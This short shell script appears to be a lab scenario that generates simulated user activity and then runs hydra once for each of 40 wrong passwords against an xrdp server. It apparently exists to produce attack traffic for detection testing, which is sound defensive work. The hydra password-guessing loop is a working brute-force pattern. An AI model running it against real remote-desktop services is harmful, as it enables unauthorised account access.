# Password guessing against xrdp with hydra: 40 wrong passwords, one hydra run each.
# xrdp takes every connection and refuses inside the session, which hydra holds for a success and stops.

SEED=96

case_prepare() {
  prepare_guessing 40
  start_xrdp
}

case_play() {
  local password
  switch_on
  work 21 anna $SEED 120
  work 23 kim $((SEED + 1)) 120
  at 40; say "guessing"
  cd "$LAB_STATE"
  while read -r password; do
    on pc33 timeout 20 hydra -I -l kim -p "$password" "rdp://$APPS" >>"$LAB_STATE/log/hydra.log" 2>&1 </dev/null
  done <"$LAB_STATE/words.txt"
  cd - >/dev/null
  at 145
}
